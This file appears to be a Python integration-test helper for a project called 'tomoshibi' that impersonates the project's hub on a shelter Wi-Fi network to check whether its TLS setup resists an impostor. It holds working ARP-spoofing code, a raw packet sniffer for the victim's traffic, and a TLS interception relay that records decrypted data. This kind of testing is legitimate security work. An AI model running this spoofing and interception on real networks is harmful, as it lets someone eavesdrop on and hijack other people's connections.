"""A machine on the shelter's Wi-Fi that takes the hub's address and answers there. Run in a namespace of its own.

    python -m tests.integration.foe FOLDER ADDRESS PORT VICTIM [RELAY_TO]

``FOLDER/held.json`` is what it shows. It writes ``heard.bin`` (what came through TLS, in clear), ``calls`` and
``wire.json``: what its own network card saw of each connection, by the victim's port, whatever its TLS says.
"""

from __future__ import annotations

import contextlib
import json
import socket
import struct
import sys
import threading
import time
from pathlib import Path

from app.tls import contexts
from app.tls.held import Held

ETH_P_ALL, ETH_P_ARP = 0x0003, 0x0806


def spoof(own: str, victim: str) -> None:
    """Say again and again to everybody that the address is here."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as line:
        line.bind(("eth0", ETH_P_ARP))
        mac = line.getsockname()[4]
        claim = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac + socket.inet_aton(own)
        claim += b"\xff" * 6 + socket.inet_aton(victim)
        while True:
            line.send(b"\xff" * 6 + mac + struct.pack("!H", ETH_P_ARP) + claim)
            time.sleep(0.05)


def sniff(folder: Path, victim: str, port: int) -> None:
    """Count what the victim sends to the port, connection by connection."""
    seen: dict[int, int] = {}
    source = socket.inet_aton(victim)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL)) as line:
        line.bind(("eth0", ETH_P_ALL))
        while True:
            frame = line.recv(65_536)
            if len(frame) < 54 or frame[12:14] != b"\x08\x00" or frame[23] != 6 or frame[26:30] != source:
                continue
            head = 14 + (frame[14] & 15) * 4
            own, other = struct.unpack("!HH", frame[head : head + 4])
            size = int.from_bytes(frame[16:18], "big") - (head - 14) - (frame[head + 12] >> 4) * 4
            if other == port and size > 0:
                seen[own] = seen.get(own, 0) + size
                (folder / "wire.part").write_text(json.dumps(seen))
                (folder / "wire.part").replace(folder / "wire.json")


def pump(source: socket.socket, target: socket.socket, note: Path | None) -> None:
    with contextlib.suppress(OSError):
        while part := source.recv(65_536):
            if note is not None:
                with note.open("ab") as file:
                    file.write(part)
            target.sendall(part)
    for end in (source, target):
        with contextlib.suppress(OSError):
            end.shutdown(socket.SHUT_RDWR)


def write_down(line: socket.socket, note: Path) -> None:
    while part := line.recv(65_536):
        with note.open("ab") as file:
            file.write(part)


def relay(line: socket.socket, held: Held, target: tuple[str, int], note: Path) -> None:
    """Carry everything over to the true hub, over a connection of one's own with a leaf of the city."""
    plain = socket.create_connection(target, timeout=20)
    with contexts.calling(held).wrap_socket(plain, server_hostname="hub.tomoshibi.internal") as hub:
        back = threading.Thread(target=pump, args=(hub, line, None), daemon=True)
        back.start()
        pump(line, hub, note)
        back.join(20)


def answer(folder: Path, held: Held, connection: socket.socket, target: tuple[str, int] | None) -> None:
    with contextlib.suppress(OSError), contextlib.closing(connection):
        connection.settimeout(20)
        with contexts.serving(held).wrap_socket(connection, server_side=True) as line:
            if target is None:
                write_down(line, folder / "heard.bin")
            else:
                relay(line, held, target, folder / "heard.bin")


def main() -> None:
    folder, own, port, victim = Path(sys.argv[1]), sys.argv[2], int(sys.argv[3]), sys.argv[4]
    target = (sys.argv[5], port) if len(sys.argv) > 5 else None
    facts = json.loads((folder / "held.json").read_text())
    held = Held(**{name: bytes.fromhex(value) for name, value in facts.items()})
    for name, nothing in (("heard.bin", b""), ("calls", b"0"), ("wire.json", b"{}")):
        (folder / name).write_bytes(nothing)
    threading.Thread(target=spoof, args=(own, victim), daemon=True).start()
    threading.Thread(target=sniff, args=(folder, victim, port), daemon=True).start()
    calls = 0
    with socket.create_server(("", port)) as listener:
        while True:
            connection, _ = listener.accept()
            calls += 1
            (folder / "calls.part").write_text(str(calls))
            (folder / "calls.part").replace(folder / "calls")
            threading.Thread(target=answer, args=(folder, held, connection, target), daemon=True).start()


if __name__ == "__main__":
    main()
